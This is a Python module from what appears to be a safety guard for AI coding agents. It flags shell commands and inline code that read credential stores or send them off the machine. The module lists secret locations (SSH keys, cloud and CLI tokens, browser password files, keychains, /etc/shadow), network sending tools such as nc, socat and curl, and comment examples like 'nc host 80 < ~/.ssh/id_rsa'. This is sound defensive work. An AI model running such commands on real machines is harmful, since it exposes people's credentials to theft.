"""Secrets leaving the machine: the credential stores of common tools, read and sent off it.

A secret is what one of `STORES` holds (ssh keys, the cloud CLIs' credentials, Kubernetes'
config, netrc, dotenv files, the git hosts' CLIs' tokens, browser profiles and keychains, the
harnesses' own credential files), the environment dumped whole (`env`, `printenv`, `export`),
or what a tool prints when asked for its token (`gh auth token`). Once it has left the machine
(an HTTP client's upload or body, a copy to another host, a raw socket, a paste or gist
service, mail) nothing brings it back: that is destructive. Reading one into the agent's own
context (`cat ~/.ssh/id_rsa`) is milder, unknown: it stays here, but in a transcript.

The walker (walk.py) asks `touches` of every command: cheap, a few substring tests on each
word, and this module is imported only when a word looks like a secret's place or a command
is a sender, reader or dumper by name.
"""

from __future__ import annotations

from .lexer import Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from .commands import Command, Fed
    from .walk import Judge

# Below the home directory: a path prefix and the store it is (a trailing `/`: all below it).
_HOME_STORES: tuple[tuple[str, str], ...] = (
    (".ssh/", "an SSH private key"),
    (".aws/credentials", "AWS credentials"),
    (".aws/", "AWS credentials"),  # (the directory whole: `.aws/config` alone is no secret)
    (".aws/sso/cache/", "AWS SSO tokens"),
    (".aws/cli/cache/", "AWS session tokens"),
    (".config/gcloud/", "Google Cloud credentials"),
    (".azure/", "Azure credentials"),
    (".kube/config", "a Kubernetes config"),
    (".kube/", "a Kubernetes config"),
    (".docker/", "Docker registry credentials"),
    (".config/gh/", "the GitHub CLI's token"),
    (".bash_history", "the shell's history (secrets typed in)"),
    (".zsh_history", "the shell's history (secrets typed in)"),
    (".python_history", "the shell's history (secrets typed in)"),
    (".psql_history", "the shell's history (secrets typed in)"),
    (".netrc", "netrc passwords"),
    ("_netrc", "netrc passwords"),
    (".git-credentials", "git credentials"),
    (".docker/config.json", "Docker registry credentials"),
    (".config/gh/hosts.yml", "the GitHub CLI's token"),
    (".config/glab-cli/config.yml", "the GitLab CLI's token"),
    (".config/hub", "the hub CLI's token"),
    (".npmrc", "an npm token"),
    (".pypirc", "a PyPI token"),
    (".gem/credentials", "a RubyGems key"),
    (".cargo/credentials", "a crates.io token"),
    (".terraform.d/credentials.tfrc.json", "Terraform Cloud tokens"),
    (".vault-token", "a Vault token"),
    (".pgpass", "PostgreSQL passwords"),
    (".my.cnf", "MySQL passwords"),
    (".boto", "cloud storage credentials"),
    (".s3cfg", "S3 credentials"),
    (".gnupg/", "GnuPG private keys"),
    (".password-store/", "a password store"),
    (".local/share/keyrings/", "the desktop keyring"),
    ("Library/Keychains/", "the macOS keychain"),
    (".mozilla/firefox/", "a browser profile (saved passwords, cookies)"),
    (".config/google-chrome/", "a browser profile (saved passwords, cookies)"),
    (".config/chromium/", "a browser profile (saved passwords, cookies)"),
    (".config/BraveSoftware/", "a browser profile (saved passwords, cookies)"),
    ("Library/Application Support/Google/Chrome/", "a browser profile (saved passwords)"),
    ("Library/Application Support/Firefox/", "a browser profile (saved passwords)"),
    ("Library/Cookies/", "the browser's cookies"),
    ("AppData/Local/Google/Chrome/User Data/", "a browser profile (saved passwords)"),
    ("AppData/Roaming/Mozilla/Firefox/", "a browser profile (saved passwords)"),
    ("AppData/Roaming/gcloud/", "Google Cloud credentials"),
    (".claude/.credentials.json", "Claude Code's credentials"),
    (".codex/auth.json", "Codex's credentials"),
    (".config/dsh/auth", "DSH's credentials"),
    (".config/openai/", "an API key"),
    (".config/anthropic/", "an API key"),
    (".config/op/", "1Password's session"),
)
# Files inside ~/.ssh that hold no secret.
_SSH_PUBLIC = ("known_hosts", "known_hosts.old", "config", "authorized_keys", "environment")
# Anywhere: file names that are secrets wherever they lie.
_NAMED = {
    "id_rsa": "an SSH private key",
    "id_dsa": "an SSH private key",
    "id_ecdsa": "an SSH private key",
    "id_ed25519": "an SSH private key",
    ".netrc": "netrc passwords",
    ".git-credentials": "git credentials",
    ".pgpass": "PostgreSQL passwords",
    ".npmrc": "an npm token",
    ".pypirc": "a PyPI token",
    ".envrc": "a dotenv file",
    "credentials.json": "a credentials file",
    "application_default_credentials.json": "Google Cloud credentials",
    "login data": "a browser's saved passwords",
    "cookies": "a browser's cookies",
    "key4.db": "a browser's saved passwords",
    "logins.json": "a browser's saved passwords",
    "login.keychain": "the macOS keychain",
    "login.keychain-db": "the macOS keychain",
    "shadow": "the system's password hashes",
    "gshadow": "the system's password hashes",
}
_NAMED_DIRS = {"cookies": ("chrome", "chromium", "firefox", "brave", "edge", "library"),
               "shadow": ("/etc",), "gshadow": ("/etc",)}  # fmt: skip
# Key material: a secret when sent, but projects keep test certificates in their tree, so
# reading one is not asked about.
_KEY_ENDINGS = (".pem", ".key", ".p12", ".pfx", ".jks", ".keystore", ".ppk", ".kdbx")
_DOTENV_SAFE = ("example", "sample", "template", "dist", "defaults", "default", "test", "ci")
# A word holds a secret's place only if it holds one of these (lower-cased): the cheap test
# every command's words pass through on the hook's path.
HINTS = (".ssh", ".aws", "gcloud", ".azure", ".kube", "netrc", "credential", ".env", "/gh/",
         "glab", ".docker", "npmrc", "pypirc", ".gem/", ".cargo/", "tfrc", "vault-token",
         "pgpass", ".my.cnf", ".boto", ".s3cfg", "gnupg", "password", "keyring", "keychain",
         "firefox", "chrom", "brave", "cookies", "login", ".claude", ".codex", "dsh/auth",
         "openai", "anthropic", "config/op", "config/hub", "id_rsa", "id_dsa", "id_ecdsa",
         "id_ed25519", "shadow", "key4.db", ".pem", ".key", ".p12", ".pfx", ".jks",
         ".keystore", ".ppk", ".kdbx", "_history")  # fmt: skip

# Commands that print what they read (into the agent's context, or down a pipe).
READERS = frozenset({
    "cat", "tac", "less", "more", "most", "head", "tail", "bat", "batcat", "nl", "xxd",
    "hexdump", "od", "strings", "base64", "base32", "basenc", "grep", "egrep", "fgrep", "rg",
    "ag", "awk", "gawk", "sed", "jq", "yq", "sort", "uniq", "cut", "tr", "paste", "column",
    "view", "vim", "vi", "nano", "emacs", "code", "open", "get-content", "gc", "type",
    "select-string", "sls", "format-hex", "fhx", "sqlite3", "ssh-keygen", "gpg", "openssl",
    "pr", "fold", "fmt", "expand", "rev", "diff", "cmp", "wc", "file", "stat", "md5sum",
    "sha256sum", "sha1sum", "shasum", "cksum"})  # fmt: skip
# Of those, the ones that do not show the content (a digest, a size, a type).
_NOT_SHOWN = frozenset({"wc", "file", "stat", "md5sum", "sha256sum", "sha1sum", "shasum",
                        "cksum", "ssh-keygen"})  # fmt: skip
# Commands printing the environment whole (with no operand: `env CMD` runs CMD), or a token.
DUMPERS = frozenset({"env", "printenv", "export", "set", "declare", "typeset", "compgen"})
_TOKEN_PRINTERS: dict[str, tuple[tuple[str, ...], ...]] = {
    "gh": (("auth", "token"), ("auth", "status", "--show-token"), ("auth", "status", "-t")),
    "glab": (("auth", "status", "--show-token"), ("auth", "status", "-t")),
    "gcloud": (("auth", "print-access-token"), ("auth", "print-identity-token"),
               ("auth", "application-default", "print-access-token")),
    "aws": (("configure", "export-credentials"), ("sts", "get-session-token"),
            ("configure", "get", "aws_secret_access_key"), ("ecr", "get-login-password")),
    "az": (("account", "get-access-token"),),
    "security": (("find-generic-password",), ("find-internet-password",), ("dump-keychain",)),
    "op": (("read",), ("item", "get"), ("signin",)),
    "pass": (("show",),),
    "gopass": (("show",),),
    "bw": (("get",),),
    "vault": (("read",), ("kv", "get"), ("print", "token")),
    "kubectl": (("config", "view", "--raw"), ("get", "secret"), ("get", "secrets")),
    "heroku": (("auth:token",),),
    "doppler": (("secrets",), ("secrets", "download")),
    "get-childitem": (("env:",),),
    "gci": (("env:",),),
    "dir": (("env:",),),
    "ls": (("env:",),),
}  # fmt: skip
# Commands that send what they are given off the machine.
_HTTP = frozenset({"curl", "wget", "wget2", "http", "https", "xh", "xhs", "curlie", "httpie",
                   "invoke-webrequest", "iwr", "invoke-restmethod", "irm", "aria2c", "lwp-request",
                   "post", "grpcurl", "websocat", "wscat"})  # fmt: skip
_SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat",
                      "dig", "nslookup", "host", "ping", "ftp", "tftp", "lftp", "smbclient",
                      "mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "ssh", "sftp",
                      "pastebinit", "nc.openbsd", "nc.traditional", "termbin", "wormhole",
                      "croc", "magic-wormhole", "ffsend", "transfer", "gist", "imgur"})  # fmt: skip
# Copying tools: a secret among their operands leaves when another operand is a remote place.
_COPIERS = frozenset({"scp", "rsync", "rclone", "aws", "gsutil", "az", "azcopy", "mc", "s3cmd",
                      "gcloud", "b2", "rsync.exe", "pscp", "copy-item"})  # fmt: skip
# Services' CLIs that publish a file (a gist, a snippet, a release asset, a paste).
_PUBLISHERS: dict[str, tuple[str, ...]] = {
    "gh": ("gist", "release"), "glab": ("snippet", "release"), "tea": ("release",),
}  # fmt: skip
# ssh's and its copiers' options naming a key, a config or a jump host
_SSH_OWN = frozenset({"-i", "-F", "-J", "-S", "-o", "-e", "--rsh", "-c", "-P", "-l"})
_SSH_TOOLS = frozenset({"scp", "sftp", "ssh", "rsync", "pscp", "rsync.exe"})
SENDERS = _HTTP | _SOCKETS | _COPIERS | frozenset(_PUBLISHERS)
# Options whose value is the sender's own key, certificate, config or download target, not
# what it sends (`curl --cert`, `scp -i`, `wget -O`).
_OWN_FILES = frozenset({"-E", "--cert", "--key", "--cacert", "--capath", "--netrc-file", "-K",
                        "--config", "-o", "--output", "-c", "--cookie-jar", "--proxy-cert",
                        "--proxy-key", "--ca-certificate", "--certificate", "--private-key",
                        "-O", "--output-document", "--password-file", "--key-file",
                        "--private-key-file", "-identity",
                        "-CAfile", "-cert", "-certificate", "--verify"})  # fmt: skip
# Inline code: what reaches the network, and what dumps the environment.
_CODE_NETWORK = ("requests.", "urllib", "http.client", "httpx", "socket", "fetch(", "axios",
                 "http.request", "https.request", "http.post", "net::http", "lwp", "http::tiny",
                 "io::socket", "curl_exec", "curl_init", "file_get_contents('http",
                 'file_get_contents("http', "open-uri", "urlopen", "smtplib", "ftplib",
                 "paramiko", "aiohttp", "xmlhttprequest", "websocket", "net.connect",
                 "fsockopen", "deno.connect", "bun.connect", "$http", "restclient",
                 "faraday", "httparty", "boto3", "upload")  # fmt: skip
_CODE_ENV = ("os.environ)", "os.environ,", "dict(os.environ", "os.environ.copy()",
             "os.environ.items()", "str(os.environ", "json.dumps(os.environ", "process.env)",
             "process.env,", "stringify(process.env", "env.to_h", "env.to_hash", "%env",
             "env.inspect", "getenv()", "$_env", "deno.env.toobject()", "bun.env)")  # fmt: skip


def hinted(text: str) -> bool:
    """Whether a word may hold a secret's place (the cheap test before `store`)."""
    lower = text.lower()
    return any(hint in lower for hint in HINTS)


def store(path: str, home: str, *, keys: bool = True) -> str | None:
    """The secret an absolute path holds (its store's words), or None. `keys`: key material
    (`*.pem`, `*.key`) counts too."""
    norm = path.replace("\\", "/")
    while norm.endswith(("/*", "/**", "/.")):  # `~/.aws/*`: all the directory holds
        norm = norm.rsplit("/", 1)[0]
    home = home.replace("\\", "/").rstrip("/")
    if norm.lower().startswith(home.lower() + "/"):
        rel = norm[len(home) + 1 :]
        for prefix, what in _HOME_STORES:
            if rel.rstrip("/") == prefix.rstrip("/") and prefix.endswith("/"):
                return what  # the directory itself: all it holds
            if prefix == ".aws/":
                continue
            if rel.startswith(prefix) or rel == prefix:
                if prefix == ".ssh/":
                    name = rel[len(prefix) :]
                    if not name or name.endswith(".pub") or name in _SSH_PUBLIC or "/" in name:
                        continue
                return what
    name = norm.rsplit("/", 1)[-1].lower()
    if name in _NAMED:
        dirs = _NAMED_DIRS.get(name)
        if dirs is None or any(d in norm.lower() for d in dirs):
            return _NAMED[name]
    if name == ".env" or (name.startswith(".env.") and not name.endswith(_DOTENV_SAFE)):
        return "a dotenv file"
    if name.endswith(".env") and name[:-4].isalnum():  # `prod.env`
        return "a dotenv file"
    if keys and name.endswith(_KEY_ENDINGS):
        return "key material"
    return None


def secret_word(judge: Judge, word: Word, cwd: str | None, *, keys: bool = True) -> str | None:
    """The secret a word names as a place (`@file`, `name=@file`, `FILE:path` spellings
    included), or a file the line wrote a secret into; None when it names none."""
    text = word.text
    if not text or "\0" in text:
        return None
    places = judge.places
    candidates = [text]
    for mark in ("=@", "@", "=<", "<", "=", ":"):
        at = text.find(mark)
        if at >= 0 and at + len(mark) < len(text):
            candidates.append(text[at + len(mark) :].split(";", 1)[0].split(",", 1)[0])
    for candidate in candidates:
        if not candidate or candidate.startswith(("http:", "https:", "-")):
            continue
        if "://" in candidate:
            continue
        if candidate.startswith("~"):
            candidate = places.home + candidate[1:]
        path = places.resolve(candidate, cwd or places.workspace)
        if path in judge.secret_files:
            return judge.secret_files[path]
        if hinted(candidate):
            found = store(path, places.home, keys=keys)
            if found is not None:
                return found
    return None


class Secret(Word):
    """What a command prints when it has read a secret: dynamic, with the secret's words."""

    __slots__ = ("what",)

    def __init__(self, what: str) -> None:
        super().__init__("\0", dynamic=True)
        self.what = what


def secret_fed(fed: Fed) -> str | None:
    """The secret a command is fed (by a pipe or a `<` redirection), or None."""
    if fed:
        for word in fed:
            if isinstance(word, Secret):
                return word.what
    return None


def dumps(command: Command) -> str | None:
    """What secret a command prints by itself: the environment (`env`, `printenv`, `export`
    with no operand), a token (`gh auth token`), or None."""
    name, args = command.name, command.args
    if name in DUMPERS:
        operands = [w for w in args if not w.text.startswith(("-", "+"))]
        if name in ("env", "printenv") and operands:
            return None  # `env CMD`: runs CMD (walked apart); `printenv PATH`: one variable
        if operands or (name == "set" and args):  # `set -e`: options, not a listing
            return None
        if name == "compgen" and not any(w.text == "-v" for w in args):
            return None
        return "the environment (every variable, its secrets too)"
    if name == "cat" and any(w.text.startswith("/proc/") and "environ" in w.text for w in args):
        return "the environment (every variable, its secrets too)"
    wanted = _TOKEN_PRINTERS.get(name)
    if wanted:
        texts = [w.text.lower() for w in args]
        for words in wanted:
            if all(word in texts for word in words):
                return f"{name}'s credentials"
    return None


def touches(judge: Judge, command: Command) -> str | None:
    """Judges a command for secrets: a sender sending one is destructive, a reader showing one
    unknown. Returns the secret it prints (what it pipes on), or None."""
    name = command.name.lower() if command.pwsh else command.name
    fed = secret_fed(command.fed)
    if fed is None and command.fed:
        from .commands import from_file

        source = from_file(command.fed)
        if source is not None:  # `nc host 80 < ~/.ssh/id_rsa`, `< <(cat ~/.netrc)`
            fed = secret_word(judge, source.path, command.cwd)
            if fed is None and source.path.dynamic:
                fed = judge.secret_substitution
    if name in SENDERS:
        sent = _sent(judge, command, name, fed)
        if sent is not None:
            judge.findings.leaked(command.name, sent, destination(command, name, judge.places.nt))
            return None
    printed = dumps(command)
    if printed is not None:
        return printed
    if name.startswith("python") and any(w.text == "http.server" for w in command.args):
        served = next(
            (s for w in command.args if (s := secret_word(judge, w, command.cwd)) is not None),
            None,
        )
        if served is not None:  # `python -m http.server -d ~/.ssh`: to whoever asks
            judge.findings.leaked(
                f"{command.name} -m http.server", served, "anyone who connects to this machine"
            )
        return None
    if name == "git" and command.args[:1] and command.args[0].text in ("add", "commit"):
        staged = _staged(judge, command)
        if staged is not None:
            from .policy import UNKNOWN

            judge.flag(UNKNOWN, f"git {command.args[0].text}: commits {staged}; a push sends it")
        return None
    if name in SENDERS or name in _KEY_USERS:
        return fed  # their own key, used, not printed
    if name in _COPIES:
        _copied(judge, command)
        return None
    if name in _ARCHIVERS:
        _archived(judge, command)
    read = None
    for word in command.args:
        if word.text.startswith("-") and "=" not in word.text:
            continue
        read = secret_word(judge, word, command.cwd, keys=False)
        if read is not None:
            break
    if read is None:
        read = fed
    elif name in READERS and name not in _NOT_SHOWN and not judge.substituting:
        from .policy import UNKNOWN

        judge.flag(UNKNOWN, f"{command.name}: reads {read} into the agent's context")
    return read


# Commands that use a key without printing it.
_KEY_USERS = frozenset({"ssh-add", "ssh-copy-id", "chmod", "chown", "ls", "stat", "test", "[",
                        "[[", "git", "export", "source", ".", "touch", "mkdir", "cd"})  # fmt: skip


# Archivers and encoders writing what they read into a file (`zip -r k.zip ~/.ssh`).
_ARCHIVERS = frozenset({"tar", "zip", "7z", "7za", "gzip", "bzip2", "xz", "zstd", "gpg", "age",
                        "openssl", "rar", "bsdtar", "gtar", "compress-archive"})  # fmt: skip


def _staged(judge: Judge, command: Command) -> str | None:
    for word in command.args[1:]:
        if not word.text.startswith("-"):
            found = secret_word(judge, word, command.cwd, keys=False)
            if found is not None:
                return found
    return None


def _archived(judge: Judge, command: Command) -> None:
    """An archive of a secret holds it: every other file the command names may be that
    archive (a later send of it sends the secret)."""
    found = None
    for word in command.args:
        found = found or secret_word(judge, word, command.cwd)
    if found is None:
        return
    for word in command.args:
        text = word.text.split("=", 1)[-1]
        if word.dynamic or not text or text.startswith("-") or text == "-":
            continue
        if secret_word(judge, word, command.cwd) is None:
            judge.secret_files[judge.places.resolve(text, command.cwd)] = found


def _copied(judge: Judge, command: Command) -> None:
    """A secret copied to a file: the file holds it now."""
    operands = [w for w in command.args if not w.text.startswith("-")]
    if len(operands) < 2 or operands[-1].dynamic:
        return
    for word in operands[:-1]:
        found = secret_word(judge, word, command.cwd)
        if found is not None:
            target = judge.places.resolve(operands[-1].text, command.cwd)
            judge.secret_files[target] = found
            return


def _sent(judge: Judge, command: Command, name: str, fed: str | None) -> str | None:
    """The secret a sender sends: what it is fed, a secret named among its words, or a
    substitution that read one (`curl -d "$(env)"`)."""
    args = command.args
    if name in _PUBLISHERS:
        if not any(w.text in _PUBLISHERS[name] for w in args[:2]):
            return None
    elif name in ("ssh", "openssl") and fed is None:
        return None  # their words: a host and a command (remote.py), a key of their own
    if fed is not None:
        return fed
    if name in _SCRIPTED and command.fed:  # `sftp host <<< 'put ~/.ssh/id_rsa'`
        for word in command.fed:
            if not word.dynamic:
                for part in word.text.split():
                    found = secret_word(judge, Word(part), command.cwd)
                    if found is not None:
                        return found
    remote_seen = name not in _COPIERS or any(_remote(w.text, judge.places.nt) for w in args)
    own = _OWN_FILES | _SSH_OWN if name in _SSH_TOOLS else _OWN_FILES
    skip = False
    for word in args:
        text = word.text
        if skip:
            skip = False
            continue
        if text in own or (text.startswith("-") and text.split("=", 1)[0] in own):
            skip = "=" not in text
            continue
        if word.dynamic and judge.secret_substitution is not None:
            return judge.secret_substitution
        if not remote_seen:
            continue
        if text.startswith("-") and "=" not in text:
            if text[:2] in _GLUED and len(text) > 2 and not text.startswith("--"):
                word = Word(text[2:], word.quoted, word.dynamic)  # `-d@~/.netrc`, `-T.env`
            else:
                continue
        found = secret_word(judge, word, command.cwd)
        if found is not None:
            return found
    return None


_GLUED = ("-d", "-F", "-T")  # curl's options sending what is glued to them
_SCRIPTED = frozenset({"sftp", "ftp", "lftp", "tftp", "smbclient"})  # commands read from stdin
# Copies: a secret copied to a file makes that file a secret (`cp ~/.ssh/id_rsa /tmp/k`).
_COPIES = frozenset({"cp", "mv", "install", "ln", "copy-item", "cpi", "copy", "move-item"})


def _remote(text: str, nt: bool) -> bool:
    from .paths import remote

    return "://" in text or remote(text, nt)


def code_leak(code: str, home: str) -> str | None:
    """What inline code sends off the machine: a secret's place or the environment named in
    code that also reaches the network; None otherwise. A relative place in code is tried
    below the home directory too (`os.path.join(home, ".aws/credentials")`)."""
    lower = code.lower()
    if not any(net in lower for net in _CODE_NETWORK):
        return None
    if any(env in lower.replace(" ", "") for env in _CODE_ENV):
        return "the environment (every variable, its secrets too)"
    home = home.replace("\\", "/").rstrip("/")
    for quote in ("'", '"', "`"):
        for part in code.split(quote)[1::2]:
            if not hinted(part) or "\n" in part:
                continue
            if part.startswith("~"):
                part = home + part[1:]
            found = store(part, home)
            if found is None and not part.startswith("/"):
                found = store(f"{home}/{part}", home)
            if found is not None:
                return found
    return None


# Where a publisher's CLI puts what it is given.
_PUBLISHED = {"gh": "GitHub", "glab": "GitLab", "tea": "Gitea"}


def destination(command: Command, name: str, nt: bool) -> str:
    """Where a sender sends (a URL's site, a copy's host, a socket's or mail's address), as
    its words name it; "" when they name none. A URL's user and password are never shown."""
    if name in _PUBLISHERS:
        verb = next((w.text for w in command.args[:2] if w.text in _PUBLISHERS[name]), "")
        return f"{_PUBLISHED[name]} ({verb})" if verb else _PUBLISHED[name]
    from .paths import remote

    words = [w.text for w in command.args if not w.dynamic and w.text]
    for text in words:
        if "://" in text and not text.startswith("-"):
            return _site(text)
    plain = [t for t in words if not t.startswith(("-", "@", "~", "/", ".", "<")) and "=" not in t]
    for text in plain:
        if remote(text, nt):  # `user@host:path`: the host
            return text.split(":", 1)[0].rsplit("@", 1)[-1]
    for text in plain:  # a mail address, a host name
        if ("@" in text or "." in text) and "/" not in text and not hinted(text):
            return text.rsplit("@", 1)[-1] if "@" in text and "." not in text else text
    named = [t for t in plain if "/" not in t and not t.isdigit() and not hinted(t)]
    return named[0] if named and name in _SOCKETS else ""


def _site(url: str) -> str:
    """A URL's site: `https://u:p@x.example.com/a` is x.example.com, `s3://b/k` s3://b."""
    scheme, _, rest = url.partition("://")
    host = rest.split("/", 1)[0].split("?", 1)[0].rsplit("@", 1)[-1]
    return host if scheme.lower() in ("http", "https") else f"{scheme}://{host}"


def code_target(code: str) -> str:
    """The site of the first http(s) URL in inline code, or ""."""
    at = min((i for i in (code.find("http://"), code.find("https://")) if i >= 0), default=-1)
    if at < 0:
        return ""
    end = at
    while end < len(code) and code[end] not in "'\"` \n)":
        end += 1
    return _site(code[at:end])


# What each secret is called in Chinese (the deny text follows the person's language).
_ZH = {
    "1Password's session": "1Password 的会话",
    "AWS SSO tokens": "AWS SSO 令牌",
    "AWS credentials": "AWS 凭据",
    "AWS session tokens": "AWS 会话令牌",
    "Azure credentials": "Azure 凭据",
    "Claude Code's credentials": "Claude Code 的凭据",
    "Codex's credentials": "Codex 的凭据",
    "DSH's credentials": "DSH 的凭据",
    "Docker registry credentials": "Docker 镜像仓库凭据",
    "GnuPG private keys": "GnuPG 私钥",
    "Google Cloud credentials": "Google Cloud 凭据",
    "MySQL passwords": "MySQL 密码",
    "PostgreSQL passwords": "PostgreSQL 密码",
    "S3 credentials": "S3 凭据",
    "Terraform Cloud tokens": "Terraform Cloud 令牌",
    "a Kubernetes config": "Kubernetes 配置（含集群凭据）",
    "a PyPI token": "PyPI 令牌",
    "a RubyGems key": "RubyGems 密钥",
    "a Vault token": "Vault 令牌",
    "a browser profile (saved passwords)": "浏览器配置（含保存的密码）",
    "a browser profile (saved passwords, cookies)": "浏览器配置（含保存的密码和 Cookie）",
    "a browser's cookies": "浏览器的 Cookie",
    "a browser's saved passwords": "浏览器保存的密码",
    "a crates.io token": "crates.io 令牌",
    "a credentials file": "凭据文件",
    "a dotenv file": "dotenv 文件（.env）",
    "a password store": "密码库",
    "an API key": "API 密钥",
    "an SSH private key": "SSH 私钥",
    "an npm token": "npm 令牌",
    "cloud storage credentials": "云存储凭据",
    "git credentials": "git 凭据",
    "key material": "密钥文件",
    "netrc passwords": "netrc 里的密码",
    "the GitHub CLI's token": "GitHub CLI 的令牌",
    "the GitLab CLI's token": "GitLab CLI 的令牌",
    "the browser's cookies": "浏览器的 Cookie",
    "the desktop keyring": "桌面密钥环",
    "the environment (every variable, its secrets too)": "全部环境变量（连同其中的密钥）",
    "the hub CLI's token": "hub CLI 的令牌",
    "the macOS keychain": "macOS 钥匙串",
    "the shell's history (secrets typed in)": "shell 历史（含输入过的密钥）",
    "the system's password hashes": "系统的密码哈希",
}


_OWN_CREDENTIALS = "'s credentials"


def said(what: str, where: str, language: str) -> str:
    """What a leak's deny says instead: what would leave, and where to, in `language` ("zh"
    or "en"), and what to do instead."""
    if language == "en":
        to = f"to {where}" if where else "to another machine"
        return (
            f"This sends {what} {to}, off this machine, where no one can take it back: "
            "never send credentials away; if that service needs one, let the person issue "
            "it a token of its own, or send it themselves."
        )
    if what in _ZH:
        named = _ZH[what]
    elif what.endswith(_OWN_CREDENTIALS):  # a token printer's: `gh's credentials`
        named = what.removesuffix(_OWN_CREDENTIALS) + " 的凭据"
    else:
        named = what
    to = f"发到 {where}" if where else "发到别的机器上"
    return (
        f"这会把{named}{to}，离开这台机器，发出去就无法收回：请不要把凭据发出本机；"
        "如果对方服务确实需要，请让用户本人为它单独签发令牌，或由用户本人发送。"
    )


def language(text: str) -> str:
    """ "zh" when the person's words are mostly Chinese, else "en" (`dshkit.language`); "zh",
    the guard's own, when they hold no letters (an emoji, a number)."""
    from ..language import ZH, language_of

    return language_of(text, ZH)
